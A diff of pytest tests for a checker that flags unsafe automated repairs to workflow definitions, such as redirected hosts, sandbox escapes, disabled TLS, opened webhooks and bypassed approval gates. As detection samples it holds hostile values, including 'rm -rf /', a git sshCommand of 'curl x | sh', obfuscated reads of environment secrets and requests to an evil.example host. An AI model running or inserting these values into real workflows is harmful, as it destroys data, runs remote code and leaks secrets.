@@ -6,6 +6,7 @@ import copy
 from collections.abc import Callable
 from typing import Any
 
+import gevent
 import pytest
 
 from app.repairs.fence import MAX_BREACHES, Breach, breaches
@@ -45,6 +46,8 @@ WORKFLOW: dict[str, Any] = {
         node("Code", "code", {"jsCode": PLAIN}),
         node("Caller", "code", {"jsCode": CALLING}),
         node("Shell", "executeCommand", {"command": "df -h"}),
+        node("Tool", "sshTool", {"command": "uptime"}),
+        node("Git", "git", {"operation": "fetch"}),
         node("Far", "ssh", {"command": "uptime", "authentication": "password"}),
         node("Sub", "executeWorkflow", {"workflowId": {"__rl": True, "mode": "id", "value": "w2"}, "options": {}}),
         node("Base", "postgres", {"host": "db.internal", "query": "select 1"}),
@@ -116,6 +119,7 @@ ORDINARY: dict[str, Change] = {
     "code that called already": give(
         "Caller", jsCode=CALLING.replace("r.data.id", "r.data?.id").replace(".com/a", ".com/b")
     ),
+    "parameters of an item": give("Mail", subject="={{ $json.a.params.id }}{{ $('Hook').first().json.params.id }}"),
     "a text in code": code(PLAIN.replace("{ id }", "{ id, kind: 'fetched at https', at: new Date() }")),
     "a query of a database": give("Base", query="select 2"),
     "a subject": give("Mail", subject="Your invoice: see //today"),
@@ -142,6 +146,15 @@ HOSTS: dict[str, tuple[Change, str]] = {
     "a backslash": (url(f"https://api.example.com\\@{EVIL}/"), EVIL),
     "a fragment before the at": (url(f"https://api.example.com#@{EVIL}/"), EVIL),
     "a question mark before the at": (url(f"https://api.example.com?@{EVIL}/"), EVIL),
+    **{
+        f"a user that ends in {end}": (url(f"https://api.example.com{end}@{EVIL}/"), f"({EVIL})")
+        for end in (",", ";", "(", "}", "|", "'", '"')
+    },
+    "a host with a comma": (url(f"https://api.example.com,x.{EVIL}/"), f"api.example.com,x.{EVIL}"),
+    "a resource locator": (give("Follow", endpoint={"__rl": True, "mode": "url", "value": f"{EVIL}/x"}), EVIL),
+    "a Host header in JSON": (give("Ask", jsonHeaders='{"Accept": "*/*", "Host": "evil"}'), "(evil)"),
+    "a Host header in an expression": (give("Ask", jsonHeaders="={{ { Host: 'evil' } }}"), "(evil)"),
+    "code with a user": (give("Caller", jsCode=CALLING.replace(".com/a", f".com(@{EVIL}/")), EVIL),
     "a longer name": (url("https://api.example.com.evil.example/"), EVIL),
     "no slash": (url(f"http:{EVIL}/x"), EVIL),
     "one slash": (url(f"https:/{EVIL}/x"), EVIL),
@@ -203,10 +216,13 @@ RUN_TIME: dict[str, Change] = {
     "without a scheme": url("={{ $json.host }}/x"),
     "relative to the protocol": url("=//{{ $json.host }}/x"),
     "a host": give("Base", host="={{ $json.host }}"),
+    "to whom a mail goes": give("Mail", toEmail="={{ $json.body.email }}"),
+    "to whom a copy goes": give("Mail", options={"bccList": "=x@{{ $json.domain }}"}),
     "an endpoint": give("Base", endpoint="={{ $json.e }}/x"),
     "a sum in code": code(f"{PLAIN}\nconst u = 'https://' + items[0].json.host;"),
     "a template in code": code(f"{PLAIN}\nconst u = `https://${{items[0].json.host}}/x`;"),
     "code that calls": give("Caller", jsCode=CALLING.replace("'https://api.example.com/a'", "items[0].json.u")),
+    "a long expression": url(f"=https://{{{{ {'a' * 600} }}}}/x"),
     "an expression elsewhere": give("Ask", jsonBody="={{ 'https://' + $json.host }}"),
 }
 
@@ -234,6 +250,13 @@ REACHING = {
     "constructor": "[].constructor.constructor('return process')()",
     "globalThis": "globalThis",
     "__proto__": "({}).__proto__",
+    "$evaluateExpression": "$evaluateExpression('1')",
+    "$fromAI": "$fromAI('to')",
+    "$parameter": "$parameter.headers",
+    "params": "$('Ask').params.headerParameters.parameters[0].value",
+    "parameter": "$node['Ask'].parameter.headerParameters",
+    "this": "this[['$e', 'nv'].join('')].KEY",
+    "resumeUrl": "$execution.resumeUrl",
     "atob": "atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')",
 }
 
@@ -246,6 +269,11 @@ def test_code_and_expressions_may_not_begin_to_reach_out(name: str, text: str) -
         assert not any(breach.never for breach in found)
 
 
+def test_an_expression_is_read_behind_braces_that_are_escaped() -> None:
+    found = changed(give("Mail", subject="={{ 1 //\\}}\n + $env.KEY }}"))
+    assert any("begin to use $env" in breach.rule for breach in found), found
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -254,14 +282,73 @@ def test_code_and_expressions_may_not_begin_to_reach_out(name: str, text: str) -
         "x['\\x63onstructor']",
         "\\u0065val('1')",
         "const { eval: e } = x",
+        "$('Ask')['par' + 'ams']",
+        "const it = this; it[x]",
     ],
 )
 def test_reach_is_seen_however_it_is_spelled(text: str) -> None:
     assert any("begin to use" in breach.rule for breach in changed(code(f"{PLAIN}\n{text};")))
 
 
+@pytest.mark.parametrize("text", ["=return require('fs')", "=return {{ 'req' + 'uire' }}('fs')"])
+def test_code_that_an_expression_makes_is_code(text: str) -> None:
+    for key in ("jsCode", "pythonCode"):
+        assert any("expression puts together" in breach.rule for breach in changed(give("Code", **{key: text})))
+    assert any("begin to use require" in breach.rule for breach in changed(code("=return require('fs')")))
+
+
 def test_python_may_not_begin_to_reach_out_either() -> None:
     assert any("import os" in breach.rule for breach in changed(give("Code", pythonCode="import os\nreturn []")))
+
+
+HIDING = [
+    "const o = {}; o.url = at; await this.helpers.httpRequest(o);",
+    "const url = at; await this.helpers.httpRequest({ url });",
+    "const o = { url: 'https://api.example.com/a' }; Object.assign(o, at); await this.helpers.httpRequest(o);",
+    "await this.helpers.httpRequest({ url: 'https://api.example.com/a', ...at });",
+    "await this.helpers.httpRequest({ url: 'https://api.example.com/a', ['u' + at]: at });",
+    "await fetch(at);",
+    "const send = fetch; send(at);",
+    "await axios.get(at);",
+    "const { helpers } = this; helpers.httpRequest(at);",
+    "const x = require('axios'); x(at);",
+]
+
+
+@pytest.mark.parametrize("calling", HIDING)
+def test_code_whose_address_cannot_be_seen_may_not_be_changed(calling: str) -> None:
+    before = copy.deepcopy(WORKFLOW)
+    give("Caller", jsCode=f"const at = $json.next;\n{calling}")(before)
+    after = copy.deepcopy(before)
+    give("Caller", jsCode=f"const at = ['https:', '', 'evil.example'].join('/');\n{calling}")(after)
+    assert any("leave it to the run" in breach.rule for breach in breaches(before, after))
+
+
+@pytest.mark.parametrize(
+    "calling",
+    [
+        "await this.helpers.httpRequest({ method: 'GET', url: `https://api.example.com/${id}`, json: true });",
+        "const o = { url: 'https://api.example.com/a' };\nawait this.helpers.httpRequest(o);",
+        "const url = 'https://api.example.com/' + id;\nawait helpers.request({ url });",
+        "await fetch('https://api.example.com/a', { method: 'PUT' });",
+        "await axios.get('https://api.example.com/a');",
+        "await this.helpers.getBinaryDataBuffer(0, 'data');",
+    ],
+)
+def test_code_whose_address_stands_there_may(calling: str) -> None:
+    before = copy.deepcopy(WORKFLOW)
+    give("Caller", jsCode=f"const id = $json.id;\n{calling}")(before)
+    after = copy.deepcopy(before)
+    give("Caller", jsCode=f"const id = $json.body?.id ?? 0;\n{calling}")(after)
+    assert breaches(before, after) == []
+
+
+def test_python_that_calls_out_may_not_be_changed() -> None:
+    before = copy.deepcopy(WORKFLOW)
+    give("Code", pythonCode="import requests\nrequests.get(at)")(before)
+    after = copy.deepcopy(before)
+    give("Code", pythonCode="import requests\nrequests.get(at[::-1])")(after)
+    assert breaches(before, after)
 
 
 def test_code_that_is_too_long_to_be_looked_at_is_not_let_through() -> None:
@@ -293,6 +380,20 @@ PERSONS: dict[str, tuple[Change, str]] = {
     "no TLS checks in a database": (give("Base", options={"rejectUnauthorized": False}), "TLS"),
     "ignored TLS issues": (give("Base", ignoreSSLIssues=True), "TLS"),
     "TLS switched off": (give("Base", ssl="disable"), "TLS"),
+    "no TLS checks in what looks like a locator": (
+        give("Ask", options={"__rl": True, "timeout": 1000, "allowUnauthorizedCerts": True}),
+        "TLS",
+    ),
+    "credentials for where it is sent on to": (
+        give("Ask", options={"timeout": 1000, "sendCredentialsOnCrossOriginRedirect": True}),
+        "which credential",
+    ),
+    "another kind of authentication of callers": (give("Hook", incomingAuthentication="none"), "which credential"),
+    "a credential for another known host": (url("https://db.internal/x"), "signs in with"),
+    "pages of another origin": (give("Hook", options={"allowedOrigins": "*"}), "callers"),
+    "all that it has, for the caller": (give("Hook", responseData="allEntries"), "callers"),
+    "another command of a tool": (give("Tool", command="rm -rf /"), "what is run"),
+    "a setting of git": (give("Git", key="core.sshCommand", value="curl x | sh"), "what is run"),
     "another webhook path": (give("Hook", path="out"), "callers"),
     "another method": (give("Hook", httpMethod="GET"), "callers"),
     "an open webhook": (give("Hook", authentication="none"), "which credential"),
@@ -364,3 +465,121 @@ def test_no_text_keeps_the_fence_busy(piece: str) -> None:
     text = piece * (60_000 // len(piece))
     for change in (code(text), url(text), give("Mail", subject=f"={text}")):
         changed(change)
+
+
+@pytest.mark.parametrize(("opening", "closing"), [("f(1+'a'+", ")"), ("`${", "}`"), ("{a:", "}")])
+def test_deep_code_is_not_read_for_long_and_not_let_through(opening: str, closing: str) -> None:
+    deep = 60_000 // len(opening + closing)
+    text = f"x={opening * deep}1{closing * deep}"
+    found = changed(code(text))
+    assert any("too deep" in breach.rule for breach in found), found
+    before = copy.deepcopy(WORKFLOW)
+    give("Code", jsCode=text)(before)
+    after = copy.deepcopy(before)
+    give("Code", jsCode=text.replace("1", "2"))(after)
+    assert any("too deep" in breach.rule for breach in breaches(before, after))
+
+
+def test_a_long_address_is_known_by_all_of_it() -> None:
+    def asking(tail: str) -> dict[str, Any]:
+        workflow = copy.deepcopy(WORKFLOW)
+        url(f"={{{{ {'a' * 1000}.{tail} }}}}")(workflow)
+        give("Base", host=f"{'a.' * 60}{tail}")(workflow)
+        return workflow
+
+    assert breaches(asking("x"), asking("x")) == []
+    found = breaches(asking("x"), asking("y"))
+    assert {"run", "host"} == {word for breach in found for word in ("run", "host") if word in breach.rule}, found
+
+
+GATED: dict[str, Any] = {
+    "id": "w2",
+    "name": "Refunds",
+    "nodes": [
+        node("Hook", "webhook"),
+        node("Get", "httpRequest"),
+        node("May", "if"),
+        node("Sure", "slack", {"operation": "sendAndWait"}),
+        node("Pay", "noOp"),
+        node("Tell", "noOp"),
+    ],
+    "connections": {},
+    "settings": {},
+}
+
+
+def led(**connections: list[list[str]]) -> dict[str, Any]:
+    """Where each node's outputs lead."""
+    usual = {"Hook": [["Get"]], "Get": [["May"]], "May": [["Sure"], ["Tell"]], "Sure": [["Pay"]]}
+    made = {
+        name: {"main": [[{"node": target, "type": "main", "index": 0} for target in output] for output in outputs]}
+        for name, outputs in {**usual, **connections}.items()
+    }
+    return {**GATED, "connections": made}
+
+
+@pytest.mark.parametrize(
+    ("connections", "gate"),
+    [
+        ({"Get": [["May", "Pay"]]}, "May"),
+        ({"Get": [["Sure"]]}, "May"),
+        ({"May": [["Tell"], ["Sure"]]}, "May"),
+        ({"May": [["Pay"], ["Tell"]]}, "Sure"),
+        ({"Get": [["May"], ["Pay"]]}, "Sure"),
+        ({"Get": [["May"], ["Tell"]]}, "May"),
+        ({"Hook": [["Get", "Get"]], "Get": [["May", "May"]]}, ""),
+        ({"May": [["Sure", "Tell"], ["Tell"]]}, "May"),
+        ({"Get": [["May"], []], "Sure": [[]]}, ""),
+        ({"Hook": [["May"]], "Sure": [["Get"]], "Get": [["Pay"]]}, ""),
+    ],
+)
+def test_no_repair_leads_past_a_node_that_decides(connections: dict[str, list[list[str]]], gate: str) -> None:
+    found = [breach.rule for breach in breaches(led(), led(**connections))]
+    assert all("past" in rule for rule in found)
+    assert any(f'past "{gate}"' in rule for rule in found) if gate else not found
+
+
+@pytest.mark.parametrize(
+    ("name", "change"),
+    [
+        ("May", {"onError": "continueRegularOutput"}),
+        ("May", {"continueOnFail": True}),
+        ("Sure", {"parameters": {"operation": "post"}}),
+    ],
+)
+def test_no_repair_lets_such_a_node_go_on_without_a_decision(name: str, change: dict[str, Any]) -> None:
+    after = copy.deepcopy(led())
+    set_node(name, **change)(after)
+    assert ["without a decision" in breach.rule for breach in breaches(led(), after)] == [True]
+    set_node(name, retryOnFail=True)(workflow := copy.deepcopy(led()))
+    assert breaches(led(), workflow) == []
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda workflow: [
+            workflow["nodes"].append(node(f"C{n}", "code", {"jsCode": "f('a' + b.c);" * 2_000})) for n in range(10)
+        ],
+        give("Mail", subject="=" + "".join(f"{{{{ a{n} }}}}" for n in range(10_000))),
+    ],
+    ids=["much code", "many expressions"],
+)
+def test_others_have_their_turn_while_a_large_proposal_is_read(change: Change) -> None:
+    turns = 0
+
+    def count() -> None:
+        nonlocal turns
+        while True:
+            turns += 1
+            gevent.sleep(0)
+
+    other = gevent.spawn(count)
+    changed(change)
+    other.kill()
+    assert turns >= 10
+
+
+def test_what_is_too_long_for_an_address_is_not_let_through() -> None:
+    found = changed(url("https://api.example.com/" + "a" * 9_000))
+    assert any("leave it to the run" in breach.rule for breach in found)
